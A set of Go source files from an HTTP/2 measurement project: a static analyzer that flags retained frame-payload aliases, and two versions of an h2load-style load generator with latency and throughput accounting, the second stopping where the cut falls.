		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Implicits:  make(map[ast.Node]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	cfg := types.Config{Importer: l}
	tpkg, err := cfg.Check(path, l.fset, asts, info)
	if err != nil {
		return nil, fmt.Errorf("lint: type-checking %s: %w", path, err)
	}
	pkg := &Package{
		Path:  path,
		Dir:   dir,
		Fset:  l.fset,
		Files: asts,
		Types: tpkg,
		Info:  info,
	}
	l.pkgs[path] = pkg
	return pkg, nil
}
