package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// RetainAnalyzer enforces the framer's payload-ownership contract (see the
// "Read buffer ownership" section on frame.Framer): everything ReadFrame
// returns — the typed frame and every payload slice reachable from it — is
// recycled storage, valid only until the next ReadFrame on the same framer.
// The analyzer tracks aliases of ReadFrame results and of frame-typed
// parameters intra-procedurally and flags the escapes that outlive that
// window: stores into struct fields, map or slice elements, channel sends,
// goroutine hand-offs, retaining appends, and assignments to variables that
// survive the read loop. frame.CopyPayload launders a value clean, as do
// string conversions and byte-wise spread appends (both deep-copy).
//
// Before this analyzer the contract was enforced only by the runtime
// aliasing regression tests, which catch a violation when the recycled
// buffer happens to be overwritten under an exercised path; the static pass
// rules the escape out on every path.
var RetainAnalyzer = &Analyzer{
	Name: "retain",
	Doc:  "flags aliases of recycled ReadFrame payloads that escape past the next ReadFrame without frame.CopyPayload",
	Run:  runRetain,
}

// taintSource records where a tracked value came from.
type taintSource struct {
	// pos is the originating ReadFrame call (or parameter).
	pos token.Pos
	// loop is the innermost for/range statement enclosing the originating
	// ReadFrame, nil when the call is straight-line or the source is a
	// parameter.
	loop ast.Stmt
}

func runRetain(pass *Pass) {
	// The framer's own package owns the recycled buffers; its stores into
	// scratch frames are the mechanism, not a violation.
	if p := pass.TypesPkg().Path(); p == "internal/frame" || strings.HasSuffix(p, "/internal/frame") {
		return
	}
	for _, file := range pass.Files() {
		for _, decl := range file.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			w := &retainWalker{
				pass:   pass,
				info:   pass.TypesInfo(),
				taints: make(map[*types.Var]*taintSource),
			}
			w.seedParams(fd)
			w.walk(fd.Body)
		}
	}
}

// retainWalker carries one function's alias state through a source-ordered
// AST walk.
type retainWalker struct {
	pass   *Pass
	info   *types.Info
	taints map[*types.Var]*taintSource
	stack  []ast.Node
}

// seedParams taints frame-typed parameters: a function that receives a
// Frame has received recycled storage and inherits the contract.
func (w *retainWalker) seedParams(fd *ast.FuncDecl) {
	if fd.Type.Params == nil {
		return
	}
	for _, field := range fd.Type.Params.List {
		for _, name := range field.Names {
			v, ok := w.info.Defs[name].(*types.Var)
			if !ok || !isFrameValue(v.Type()) {
				continue
			}
			w.taints[v] = &taintSource{pos: name.Pos()}
		}
	}
}

// isFrameValue reports whether t is the frame.Frame interface or a pointer
// to one of the typed frame structs (*DataFrame, *HeadersFrame, ...).
func isFrameValue(t types.Type) bool {
	if namedTypeIs(t, "internal/frame", "Frame") {
		return true
	}
	ptr, ok := t.Underlying().(*types.Pointer)
	if !ok {
		return false
	}
	named, ok := ptr.Elem().(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	if obj.Pkg() == nil || !strings.HasSuffix(obj.Name(), "Frame") {
		return false
	}
	p := obj.Pkg().Path()
	return p == "internal/frame" || strings.HasSuffix(p, "/internal/frame")
}

// isReadFrameCall reports whether call is (*frame.Framer).ReadFrame.
func isReadFrameCall(info *types.Info, call *ast.CallExpr) bool {
	f := calleeFunc(info, call)
	if f == nil || f.Name() != "ReadFrame" {
		return false
	}
	recv := recvTypeOf(info, call)
	return recv != nil && namedTypeIs(recv, "internal/frame", "Framer")
}

// isCopyPayloadCall reports whether call is frame.CopyPayload, the contract's
// designated escape hatch.
func isCopyPayloadCall(info *types.Info, call *ast.CallExpr) bool {
	f := calleeFunc(info, call)
	if f == nil || f.Name() != "CopyPayload" || f.Pkg() == nil {
		return false
	}
	p := f.Pkg().Path()
	return p == "internal/frame" || strings.HasSuffix(p, "/internal/frame")
}

// walk visits node and its children in source order, maintaining the
// ancestor stack and dispatching the statements that move values around.
func (w *retainWalker) walk(node ast.Node) {
	ast.Inspect(node, func(n ast.Node) bool {
		if n == nil {
			w.stack = w.stack[:len(w.stack)-1]
			return false
		}
		w.stack = append(w.stack, n)
		switch s := n.(type) {
		case *ast.AssignStmt:
			w.assign(s)
		case *ast.SendStmt:
			if w.taintOf(s.Value) != nil {
				w.report(s.Value.Pos(), "sent on a channel")
			}
		case *ast.GoStmt:
			w.goStmt(s)
		case *ast.RangeStmt:
			// range over a tainted slice taints the element variable.
			if src := w.taintOf(s.X); src != nil && s.Value != nil {
				if v := localObject(w.info, s.Value); v != nil {
					if t := w.info.TypeOf(s.Value); t != nil && typeRetainsPointers(t) {
						w.taints[v] = src
					}
				}
			}
		}
		return true
	})
}

// assign applies one assignment statement to the taint state.
func (w *retainWalker) assign(s *ast.AssignStmt) {
	// Multi-value forms: f, err := fr.ReadFrame() and d, ok := f.(*DataFrame).
	if len(s.Rhs) == 1 && len(s.Lhs) > 1 {
		if src := w.taintOf(s.Rhs[0]); src != nil {
			w.assignOne(s.Lhs[0], src)
		}
		return
	}
	for i, r := range s.Rhs {
		if i >= len(s.Lhs) {
			break
		}
		l := s.Lhs[i]
		src := w.taintOf(r)
		if src == nil {
			// A clean reassignment clears a previously tainted variable.
			if v := localObject(w.info, l); v != nil {
				delete(w.taints, v)
			}
			continue
		}
		w.assignOne(l, src)
	}
}

// assignOne records or reports one tainted value landing in lhs.
func (w *retainWalker) assignOne(lhs ast.Expr, src *taintSource) {
	lhs = ast.Unparen(lhs)
	if id, ok := lhs.(*ast.Ident); ok {
		if id.Name == "_" {
			return
		}
		v := localObject(w.info, id)
		if v == nil {
			return
		}
		w.taints[v] = src
		// Loop-carried retention: a variable declared outside the loop that
		// contains the ReadFrame survives into the next iteration — past the
		// next ReadFrame.
		if src.loop != nil && !declaredWithin(v, src.loop) {
			w.report(id.Pos(), "assigned to a variable that outlives the ReadFrame loop iteration")
		}
		return
	}
	switch lhs.(type) {
	case *ast.SelectorExpr:
		w.report(lhs.Pos(), "stored in a struct field")
	case *ast.IndexExpr:
		w.report(lhs.Pos(), "stored in a map or slice element")
	case *ast.StarExpr:
		w.report(lhs.Pos(), "stored through a pointer")
	}
}

// goStmt flags tainted values crossing into a goroutine, which races the
// next ReadFrame by construction.
func (w *retainWalker) goStmt(s *ast.GoStmt) {
	for _, arg := range s.Call.Args {
		if w.taintOf(arg) != nil {
			w.report(arg.Pos(), "passed to a goroutine")
		}
	}
	if lit, ok := ast.Unparen(s.Call.Fun).(*ast.FuncLit); ok {
		ast.Inspect(lit.Body, func(n ast.Node) bool {
			id, ok := n.(*ast.Ident)
			if !ok {
				return true
			}
			if v, ok := w.info.Uses[id].(*types.Var); ok {
				if _, tainted := w.taints[v]; tainted {
					w.report(id.Pos(), "captured by a goroutine closure")
					return false
				}
			}
			return true
		})
	}
}

// taintOf resolves the taint source an expression aliases, or nil when the
// expression is clean (including values laundered through CopyPayload,
// copying conversions, and byte-wise spread appends).
func (w *retainWalker) taintOf(expr ast.Expr) *taintSource {
	switch e := ast.Unparen(expr).(type) {
	case *ast.Ident:
		if v, ok := w.info.Uses[e].(*types.Var); ok {
			return w.taints[v]
		}
	case *ast.SelectorExpr:
		src := w.taintOf(e.X)
		if src == nil {
			return nil
		}
		if t := w.info.TypeOf(e); t != nil && !typeRetainsPointers(t) {
			return nil // scalar field copies by value
		}
		return src
	case *ast.IndexExpr:
		src := w.taintOf(e.X)
		if src == nil {
			return nil
		}
		if t := w.info.TypeOf(e); t != nil && !typeRetainsPointers(t) {
			return nil
		}
		return src
	case *ast.SliceExpr:
		return w.taintOf(e.X)
	case *ast.TypeAssertExpr:
		return w.taintOf(e.X)
	case *ast.StarExpr:
		return w.taintOf(e.X)
	case *ast.UnaryExpr:
		if e.Op == token.AND {
			return w.taintOf(e.X)
		}
	case *ast.CompositeLit:
		for _, elt := range e.Elts {
			if kv, ok := elt.(*ast.KeyValueExpr); ok {
				elt = kv.Value
			}
			if src := w.taintOf(elt); src != nil {
				return src
			}
		}
	case *ast.CallExpr:
		return w.taintOfCall(e)
	}
	return nil
}

// taintOfCall classifies call results: ReadFrame births a taint, CopyPayload
// and copying conversions launder one, append retains or copies depending on
// its shape, and every other call is trusted to not leak what it was passed.
func (w *retainWalker) taintOfCall(call *ast.CallExpr) *taintSource {
	if isReadFrameCall(w.info, call) {
		return &taintSource{pos: call.Pos(), loop: enclosingLoop(w.stack)}
	}
	if isCopyPayloadCall(w.info, call) {
		return nil
	}
	if target, ok := isConversion(w.info, call); ok {
		// string([]byte) and []T-of-scalars([]byte) copy; conversions between
		// pointer-carrying types keep the alias.
		if !typeRetainsPointers(target) || elemCopiesClean(target) {
			return nil
		}
		if len(call.Args) == 1 {
			return w.taintOf(call.Args[0])
		}
		return nil
	}
	if builtinName(w.info, call) == "append" && len(call.Args) > 0 {
		for i, arg := range call.Args[1:] {
			src := w.taintOf(arg)
			if src == nil {
				continue
			}
			spread := call.Ellipsis.IsValid() && i == len(call.Args)-2
			if spread {
				if t := w.info.TypeOf(arg); t != nil && elemCopiesClean(t) {
					continue // append(dst, data...) deep-copies the bytes
				}
			}
			return src
		}
		// The destination slice may itself be tainted (resizing an alias).
		return w.taintOf(call.Args[0])
	}
	return nil
}

func (w *retainWalker) report(pos token.Pos, how string) {
	w.pass.Reportf(pos, "recycled frame payload %s; it is valid only until the next ReadFrame — detach it with frame.CopyPayload", how)
}
