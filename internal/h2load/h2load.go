// Package h2load is a multiplexing-aware HTTP/2 load generator in the
// spirit of nghttp2's h2load: N connections striped across T driver
// threads, M concurrent streams per connection, a fixed request quota,
// and latency/throughput accounting.
//
// The engine speaks the wire protocol directly — one framer, HPACK
// encoder, and HPACK decoder per connection, no shared state on the
// request path — so a run measures the server, not the client. Each
// driver submits requests in closed-loop batches: up to M HEADERS frames
// coalesce into a single write, then the driver reads frames until every
// stream in the batch has ended before drawing the next batch of tickets
// from the shared atomic quota.
//
// The paper's testbed characterization needs exactly this shape of driver
// (many concurrent streams against one server); the package doubles as the
// engine behind the server-throughput benchmarks.
package h2load

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/hpack"
	"h2scope/internal/metrics"
)

// maxWindow is the largest legal flow-control window (RFC 7540 section
// 6.9.1). The handshake maxes out both the connection window and the
// per-stream initial window so a loopback run never stalls on flow
// control — the generator is measuring the server's data plane, not its
// own WINDOW_UPDATE cadence.
const maxWindow = 1<<31 - 1

// latencyUnit is the bucketing divisor of the per-driver latency
// histograms: nanosecond observations bucketed per microsecond.
const latencyUnit = int64(time.Microsecond)

// Options configures a load run.
type Options struct {
	// Connections is the number of HTTP/2 connections (N).
	Connections int
	// Threads is the number of driver goroutines the connections are
	// striped across (T). Zero means one driver per connection.
	Threads int
	// StreamsPerConn is the number of concurrent streams per connection
	// (M): the batch size of the closed submit/drain loop.
	StreamsPerConn int
	// Requests is the total request quota across all workers.
	Requests int
	// Authority and Path select the resource to hammer.
	Authority string
	Path      string
	// Timeout bounds each batch drain; a connection that makes no
	// progress for this long is torn down and its in-flight requests
	// counted as errors.
	Timeout time.Duration
	// Metrics, when set, instruments the run live: requests, errors, body
	// bytes, opened connections, and a request-latency histogram land in
	// h2_load_* instruments, and every connection's framer feeds the
	// shared h2_frames_* set. The returned Result stays exact and per-run
	// regardless.
	Metrics *metrics.Registry
}

// withDefaults fills zero fields.
func (o Options) withDefaults() Options {
	if o.Connections < 1 {
		o.Connections = 1
	}
	if o.Threads < 1 || o.Threads > o.Connections {
		o.Threads = o.Connections
	}
	if o.StreamsPerConn < 1 {
		o.StreamsPerConn = 1
	}
	if o.Requests < 1 {
		o.Requests = 100
	}
	if o.Path == "" {
		o.Path = "/"
	}
	if o.Timeout == 0 {
		o.Timeout = 10 * time.Second
	}
	return o
}

// Result is the aggregate outcome of a load run.
type Result struct {
	// Requests is the number of successful responses.
	Requests int
	// Errors counts failed requests (transport errors, resets, non-200s).
	Errors int
	// BytesRead is the total response body volume.
	BytesRead int64
	// Duration is the wall-clock span of the run.
	Duration time.Duration
	// Latency is the merged request-latency histogram (nanosecond
	// observations, microsecond buckets), folded together from the
	// per-driver histograms at run end.
	Latency metrics.HistogramSnapshot
}

// RequestsPerSecond is the achieved throughput.
func (r *Result) RequestsPerSecond() float64 {
	if r.Duration <= 0 {
		return 0
	}
	return float64(r.Requests) / r.Duration.Seconds()
}

// LatencyQuantile returns the q-quantile (0..1) of request latency from
// the merged histogram.
func (r *Result) LatencyQuantile(q float64) time.Duration {
	return time.Duration(r.Latency.Quantile(q))
}

// String renders an h2load-style summary.
func (r *Result) String() string {
	return fmt.Sprintf(
		"requests: %d ok, %d failed | %.0f req/s | %s read | latency p50 %v, p95 %v, p99 %v",
		r.Requests, r.Errors, r.RequestsPerSecond(), byteCount(r.BytesRead),
		r.LatencyQuantile(0.50), r.LatencyQuantile(0.95), r.LatencyQuantile(0.99))
}

// Summary is the machine-readable form of a Result, one JSON object per
// run. It is what `h2load -out` emits as JSONL so saturation sweeps can be
// diffed and archived without scraping the human report.
type Summary struct {
	Requests       int     `json:"requests"`
	Errors         int     `json:"errors"`
	BytesRead      int64   `json:"bytes_read"`
	DurationNS     int64   `json:"duration_ns"`
	RequestsPerSec float64 `json:"requests_per_sec"`
	LatencyMeanNS  int64   `json:"latency_mean_ns"`
	LatencyP50NS   int64   `json:"latency_p50_ns"`
	LatencyP95NS   int64   `json:"latency_p95_ns"`
	LatencyP99NS   int64   `json:"latency_p99_ns"`
	LatencyMaxNS   int64   `json:"latency_max_ns"`
}

// Summary converts the result for JSONL output.
func (r *Result) Summary() Summary {
	return Summary{
		Requests:       r.Requests,
		Errors:         r.Errors,
		BytesRead:      r.BytesRead,
		DurationNS:     int64(r.Duration),
		RequestsPerSec: r.RequestsPerSecond(),
		LatencyMeanNS:  r.Latency.Mean(),
		LatencyP50NS:   int64(r.LatencyQuantile(0.50)),
		LatencyP95NS:   int64(r.LatencyQuantile(0.95)),
		LatencyP99NS:   int64(r.LatencyQuantile(0.99)),
		LatencyMaxNS:   r.Latency.Max,
	}
}

// WriteJSONL writes the summary as one JSON line.
func (s Summary) WriteJSONL(w io.Writer) error {
	b, err := json.Marshal(s)
	if err != nil {
		return err
	}
	b = append(b, '\n')
	_, err = w.Write(b)
	return err
}

func byteCount(n int64) string {
	switch {
	case n >= 1<<20:
		return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20))
	case n >= 1<<10:
		return fmt.Sprintf("%.1f KiB", float64(n)/(1<<10))
	default:
		return fmt.Sprintf("%d B", n)
	}
}

// loadMetrics is the h2_load_* instrument set, built once per Run.
type loadMetrics struct {
	frame    *frame.Metrics
	conns    *metrics.Counter
	requests *metrics.Counter
	errors   *metrics.Counter
	bytes    *metrics.Counter
	latency  *metrics.Histogram
}

func newLoadMetrics(r *metrics.Registry) *loadMetrics {
	return &loadMetrics{
		frame:    frame.NewMetrics(r),
		conns:    r.Counter("h2_load_conns_total", "HTTP/2 connections opened by the load generator"),
		requests: r.Counter("h2_load_requests_total", "successful load-generator requests"),
		errors:   r.Counter("h2_load_errors_total", "failed load-generator requests (transport errors, resets, non-200s)"),
		bytes:    r.Counter("h2_load_body_bytes_total", "response body octets read by the load generator"),
		latency: r.Histogram("h2_load_request_latency_ns",
			"load-generator request latency", latencyUnit, metrics.DefaultBuckets),
	}
}

// loadConn is one raw HTTP/2 connection: framer plus per-connection HPACK
// contexts. All request-path state is owned by the driver that holds the
// connection, so the hot loop takes no locks.
type loadConn struct {
	nc  net.Conn
	fr  *frame.Framer
	enc *hpack.Encoder
	dec *hpack.Decoder

	// nextID is the next client stream ID (odd, ascending).
	nextID uint32

	// block is the HEADERS fragment scratch reused per request.
	block []byte
	// fields is the header-list decode scratch reused per response.
	fields []hpack.HeaderField
	// req is the request header list, built once.
	req []hpack.HeaderField

	// hb accumulates a header block across HEADERS/CONTINUATION frames;
	// hbID/hbEnd/hbPush describe the block in flight.
	hb     []byte
	hbID   uint32
	hbEnd  bool
	hbPush bool

	// watchdog force-closes nc when a batch drain stalls past the
	// timeout; it is reset per batch and stopped on completion.
	watchdog *time.Timer

	dead   bool
	goaway bool
}

// handshake dials the preface: ENABLE_PUSH off (the generator has no use
// for pushed responses), stream and connection windows maxed so flow
// control never throttles the measurement.
func newLoadConn(nc net.Conn, opts *Options, lm *loadMetrics) (*loadConn, error) {
	c := &loadConn{
		nc:     nc,
		fr:     frame.NewFramer(nc, nc),
		enc:    hpack.NewEncoder(hpack.PolicyIndexAll),
		dec:    hpack.NewDecoder(hpack.DefaultDynamicTableSize),
		nextID: 1,
		req: []hpack.HeaderField{
			{Name: ":method", Value: "GET"},
			{Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: opts.Authority},
			{Name: ":path", Value: opts.Path},
			{Name: "user-agent", Value: "h2scope-h2load/2.0"},
		},
	}
	if lm != nil {
		c.fr.SetMetrics(lm.frame)
		lm.conns.Inc()
	}
	c.watchdog = time.AfterFunc(time.Hour, func() { _ = nc.Close() })
	c.watchdog.Stop()
	if err := c.fr.WriteRawBytes([]byte(frame.ClientPreface)); err != nil {
		return nil, err
	}
	if err := c.fr.WriteSettings(
		frame.Setting{ID: frame.SettingEnablePush, Val: 0},
		frame.Setting{ID: frame.SettingInitialWindowSize, Val: maxWindow},
	); err != nil {
		return nil, err
	}
	if err := c.fr.WriteWindowUpdate(0, maxWindow-65535); err != nil {
		return nil, err
	}
	if err := c.fr.Flush(); err != nil {
		return nil, err
	}
	return c, nil
}

// batch is the in-flight closed-loop batch state, reused across batches.
type batch struct {
	base  uint32
	n     int
	done  int
	t0    time.Time
	ended []bool
	ok    []bool
}

func (b *batch) reset(base uint32, n int) {
	b.base, b.n, b.done = base, n, 0
	b.ended = append(b.ended[:0], make([]bool, n)...)
	b.ok = append(b.ok[:0], make([]bool, n)...)
}

// index maps a stream ID into the batch, or -1.
func (b *batch) index(id uint32) int {
	if id < b.base || (id-b.base)%2 != 0 {
		return -1
	}
	i := int(id-b.base) / 2
	if i >= b.n {
		return -1
	}
	return i
}

// driver owns a stripe of connections and accumulates its own counters;
// Run merges the per-driver stats when every driver is done, so the
// request path shares nothing but the atomic ticket counter.
type driver struct {
	opts  *Options
	lm    *loadMetrics
	conns []*loadConn
	left  *atomic.Int64

	requests int
	errors   int
	bytes    int64
	hist     *metrics.Histogram
	errs     []error
}

// claim draws up to max tickets from the shared quota.
func (d *driver) claim(max int) int {
	for {
		cur := d.left.Load()
		if cur <= 0 {
			return 0
		}
		take := int64(max)
		if take > cur {
			take = cur
		}
		if d.left.CompareAndSwap(cur, cur-take) {
			return int(take)
		}
	}
}

// observe records one finished request outcome.
func (d *driver) observe(lat time.Duration, ok bool, body int64) {
	d.hist.Observe(int64(lat))
	if d.lm != nil {
		d.lm.latency.Observe(int64(lat))
	}
	if ok {
		d.requests++
		d.bytes += body
		if d.lm != nil {
			d.lm.requests.Inc()
			d.lm.bytes.Add(body)
		}
	} else {
		d.errors++
		if d.lm != nil {
			d.lm.errors.Inc()
		}
	}
}

// fail tears the connection down and settles every unfinished stream of
// the batch as an error.
func (d *driver) fail(c *loadConn, bs *batch, err error) {
	c.dead = true
	_ = c.nc.Close()
	if err != nil && len(d.errs) < 4 {
		d.errs = append(d.errs, err)
	}
	lat := time.Since(bs.t0)
	for i := 0; i < bs.n; i++ {
		if !bs.ended[i] {
			bs.ended[i] = true
			bs.done++
			d.observe(lat, false, 0)
		}
	}
}

// finish marks one batch stream ended.
func (d *driver) finish(bs *batch, id uint32, ok bool, body int64) {
	i := bs.index(id)
	if i < 0 || bs.ended[i] {
		return
	}
	bs.ended[i] = true
	bs.ok[i] = ok
	bs.done++
	d.observe(time.Since(bs.t0), ok, body)
}

// runBatch submits n requests as one coalesced HEADERS burst and drains
// the connection until all of them have ended.
func (d *driver) runBatch(c *loadConn, bs *batch, n int) {
	bs.reset(c.nextID, n)
	bs.t0 = time.Now()
	for i := 0; i < n; i++ {
		c.block = c.enc.AppendBlock(c.block[:0], c.req)
		err := c.fr.WriteHeaders(frame.HeadersParams{
			StreamID:   c.nextID,
			Fragment:   c.block,
			EndStream:  true,
			EndHeaders: true,
		})
		c.nextID += 2
		if err != nil {
			// Streams never submitted still consumed tickets; settle
			// the whole batch as failed.
			c.nextID += 2 * uint32(n-1-i)
			d.fail(c, bs, err)
			return
		}
	}
	if err := c.fr.Flush(); err != nil {
		d.fail(c, bs, err)
		return
	}
	d.drain(c, bs)
}

// drain reads frames until the batch completes, the timeout watchdog
// closes the connection, or the transport fails.
func (d *driver) drain(c *loadConn, bs *batch) {
	c.watchdog.Reset(d.opts.Timeout)
	defer c.watchdog.Stop()
	bodyBytes := make(map[uint32]int64, bs.n)
	for bs.done < bs.n {
		f, err := c.fr.ReadFrame()
		if err != nil {
			d.fail(c, bs, err)
			return
		}
		switch f := f.(type) {
		case *frame.HeadersFrame:
			c.hb = append(c.hb[:0], f.Fragment...)
			c.hbID = f.Header().StreamID
			c.hbEnd = f.StreamEnded()
			c.hbPush = false
			if f.HeadersEnded() {
				d.endHeaderBlock(c, bs, bodyBytes)
			}
		case *frame.ContinuationFrame:
			c.hb = append(c.hb, f.Fragment...)
			if f.HeadersEnded() {
				d.endHeaderBlock(c, bs, bodyBytes)
			}
		case *frame.DataFrame:
			id := f.Header().StreamID
			bodyBytes[id] += int64(len(f.Data))
			if f.StreamEnded() {
				d.finish(bs, id, bs.okAt(id), bodyBytes[id])
			}
		case *frame.RSTStreamFrame:
			d.finish(bs, f.Header().StreamID, false, 0)
		case *frame.SettingsFrame:
			if !f.IsAck() {
				if err := c.fr.WriteSettingsAck(); err == nil {
					err = c.fr.Flush()
				} else {
					d.fail(c, bs, err)
					return
				}
			}
		case *frame.PingFrame:
			if !f.IsAck() {
				if err := c.fr.WritePing(true, f.Data); err != nil {
					d.fail(c, bs, err)
					return
				}
				if err := c.fr.Flush(); err != nil {
					d.fail(c, bs, err)
					return
				}
			}
		case *frame.GoAwayFrame:
			c.goaway = true
			// Streams above the cutoff were never processed and will
			// not be answered; settle them now.
			for i := 0; i < bs.n; i++ {
				id := bs.base + 2*uint32(i)
				if id > f.LastStreamID {
					d.finish(bs, id, false, 0)
				}
			}
		case *frame.PushPromiseFrame:
			// Push is disabled in the handshake; a server that promises
			// anyway still mutates the HPACK connection context, so the
			// block must be decoded before the promise is refused.
			c.hb = append(c.hb[:0], f.Fragment...)
			c.hbID = f.PromiseID
			c.hbEnd = false
			c.hbPush = true
			if f.HeadersEnded() {
				d.endHeaderBlock(c, bs, bodyBytes)
			}
		}
	}
}

// okAt reports whether the batch stream already saw a 200 response
// header block.
func (b *batch) okAt(id uint32) bool {
	if i := b.index(id); i >= 0 {
		return b.ok[i]
	}
	return false
}

// endHeaderBlock decodes the completed header block and applies it: a
// response block records the status (and finishes the stream when the
// block carried END_STREAM); a push block is refused.
func (d *driver) endHeaderBlock(c *loadConn, bs *batch, bodyBytes map[uint32]int64) {
	fields, err := c.dec.DecodeAppend(c.fields[:0], c.hb)
	c.fields = fields
	if err != nil {
		d.fail(c, bs, err)
		return
	}
	if c.hbPush {
		if err := c.fr.WriteRSTStream(c.hbID, frame.ErrCodeCancel); err != nil {
			d.fail(c, bs, err)
		}
		return
	}
	status := ""
	for _, hf := range fields {
		if hf.Name == ":status" {
			status = hf.Value
			break
		}
	}
	if i := bs.index(c.hbID); i >= 0 {
		bs.ok[i] = status == "200"
	}
	if c.hbEnd {
		d.finish(bs, c.hbID, bs.okAt(c.hbID), bodyBytes[c.hbID])
	}
}

// run is the driver loop: round-robin over the stripe's live connections,
// one closed-loop batch per visit, until the quota is spent or every
// connection has died.
func (d *driver) run() {
	bs := &batch{}
	for {
		alive := false
		for _, c := range d.conns {
			if c.dead || c.goaway {
				continue
			}
			alive = true
			n := d.claim(d.opts.StreamsPerConn)
			if n == 0 {
				return
			}
			d.runBatch(c, bs, n)
		}
		if !alive {
			return
		}
	}
}

// Run drives the load and blocks until the quota is spent (or every
// connection has failed).
func Run(dial func() (net.Conn, error), opts Options) (*Result, error) {
	opts = opts.withDefaults()
	var lm *loadMetrics
	if opts.Metrics != nil {
		lm = newLoadMetrics(opts.Metrics)
	}

	conns := make([]*loadConn, opts.Connections)
	for i := range conns {
		nc, err := dial()
		if err != nil {
			return nil, fmt.Errorf("h2load: dial connection %d: %w", i, err)
		}
		c, err := newLoadConn(nc, &opts, lm)
		if err != nil {
			_ = nc.Close()
			return nil, fmt.Errorf("h2load: handshake %d: %w", i, err)
		}
		conns[i] = c
	}
	defer func() {
		for _, c := range conns {
			_ = c.nc.Close()
		}
	}()

	var left atomic.Int64
	left.Store(int64(opts.Requests))
	drivers := make([]*driver, opts.Threads)
	for t := range drivers {
		d := &driver{
			opts: &opts,
			lm:   lm,
			left: &left,
			hist: metrics.NewHistogram(latencyUnit, metrics.DefaultBuckets),
		}
		// Stripe connections across drivers: driver t owns conns
		// t, t+T, t+2T, ...
		for i := t; i < len(conns); i += opts.Threads {
			d.conns = append(d.conns, conns[i])
		}
		drivers[t] = d
	}

	start := time.Now()
	var wg sync.WaitGroup
	for _, d := range drivers {
		wg.Add(1)
		go func(d *driver) {
			defer wg.Done()
			d.run()
		}(d)
	}
	wg.Wait()

	res := &Result{
		Duration: time.Since(start),
		// Merge folds extra source buckets into the last destination
		// bucket, so the destination must be pre-sized.
		Latency: metrics.HistogramSnapshot{Unit: latencyUnit, Buckets: make([]int64, metrics.DefaultBuckets)},
	}
	var errs []error
	for _, d := range drivers {
		res.Requests += d.requests
		res.Errors += d.errors
		res.BytesRead += d.bytes
		res.Latency.Merge(d.hist.Snapshot())
		errs = append(errs, d.errs...)
	}
	if res.Requests == 0 && len(errs) > 0 {
		return res, fmt.Errorf("h2load: all requests failed, first error: %w", errs[0])
	}
	return res, nil
}
