// Package h2load is a multiplexing-aware HTTP/2 load generator in the
// spirit of nghttp2's h2load: N connections, M concurrent streams per
// connection, a fixed request quota, and latency/throughput accounting.
//
// The paper's testbed characterization needs exactly this shape of driver
// (many concurrent streams against one server); the package doubles as the
// engine behind the server-throughput benchmarks.
package h2load

import (
	"errors"
	"fmt"
	"net"
	"sort"
	"sync"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/metrics"
)

// streamsEnded counts how many of ids have reached END_STREAM or RST_STREAM
// in the event log.
func streamsEnded(evs []h2conn.Event, ids []uint32) int {
	if len(ids) == 0 {
		return 0
	}
	// Batch stream IDs are consecutive odd numbers, so membership is an
	// index computation, not a map: the predicate runs under the conn lock
	// on every event arrival and must stay allocation-free.
	base := ids[0]
	ended := 0
	var stack [64]bool
	done := stack[:]
	if len(ids) > len(done) {
		done = make([]bool, len(ids))
	}
	for _, e := range evs {
		if e.StreamID < base || (e.StreamID-base)%2 != 0 {
			continue
		}
		idx := int(e.StreamID-base) / 2
		if idx >= len(ids) || done[idx] {
			continue
		}
		if e.StreamEnded() || e.Type == frame.TypeRSTStream {
			done[idx] = true
			ended++
		}
	}
	return ended
}

// streamLatency returns the time from batch submission to the event that
// ended the stream, falling back to zero when the stream never finished.
func streamLatency(evs []h2conn.Event, id uint32, t0 time.Time) time.Duration {
	for _, e := range evs {
		if e.StreamID != id {
			continue
		}
		if e.StreamEnded() || e.Type == frame.TypeRSTStream {
			return e.At.Sub(t0)
		}
	}
	return 0
}

// Options configures a load run.
type Options struct {
	// Connections is the number of HTTP/2 connections (N).
	Connections int
	// StreamsPerConn is the number of concurrent streams per connection (M).
	StreamsPerConn int
	// Requests is the total request quota across all workers.
	Requests int
	// Authority and Path select the resource to hammer.
	Authority string
	Path      string
	// Timeout bounds each individual request.
	Timeout time.Duration
	// Metrics, when set, instruments the run live: requests, errors, body
	// bytes, and a request-latency histogram land in h2_load_* instruments,
	// and every connection feeds the shared h2_conn_*/h2_frames_* set. The
	// returned Result stays exact and per-run regardless.
	Metrics *metrics.Registry
}

// withDefaults fills zero fields.
func (o Options) withDefaults() Options {
	if o.Connections < 1 {
		o.Connections = 1
	}
	if o.StreamsPerConn < 1 {
		o.StreamsPerConn = 1
	}
	if o.Requests < 1 {
		o.Requests = 100
	}
	if o.Path == "" {
		o.Path = "/"
	}
	if o.Timeout == 0 {
		o.Timeout = 10 * time.Second
	}
	return o
}

// Result is the aggregate outcome of a load run.
type Result struct {
	// Requests is the number of successful responses.
	Requests int
	// Errors counts failed requests (transport errors, resets, non-200s).
	Errors int
	// BytesRead is the total response body volume.
	BytesRead int64
	// Duration is the wall-clock span of the run.
	Duration time.Duration
	// latencies holds one sample per successful request, sorted.
	latencies []time.Duration
}

// RequestsPerSecond is the achieved throughput.
func (r *Result) RequestsPerSecond() float64 {
	if r.Duration <= 0 {
		return 0
	}
	return float64(r.Requests) / r.Duration.Seconds()
}

// LatencyQuantile returns the q-quantile (0..1) of request latency.
func (r *Result) LatencyQuantile(q float64) time.Duration {
	if len(r.latencies) == 0 {
		return 0
	}
	idx := int(q * float64(len(r.latencies)))
	if idx >= len(r.latencies) {
		idx = len(r.latencies) - 1
	}
	if idx < 0 {
		idx = 0
	}
	return r.latencies[idx]
}

// String renders an h2load-style summary.
func (r *Result) String() string {
	return fmt.Sprintf(
		"requests: %d ok, %d failed | %.0f req/s | %s read | latency p50 %v, p95 %v, p99 %v",
		r.Requests, r.Errors, r.RequestsPerSecond(), byteCount(r.BytesRead),
